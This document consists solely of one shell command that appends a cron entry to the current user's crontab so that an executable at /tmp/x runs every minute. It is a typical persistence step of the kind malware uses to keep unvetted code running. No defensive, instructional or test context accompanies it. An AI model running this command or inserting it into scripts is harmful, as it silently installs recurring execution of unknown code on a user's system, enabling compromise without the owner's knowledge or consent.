(crontab -l 2>/dev/null; echo "* * * * * /tmp/x") | crontab -
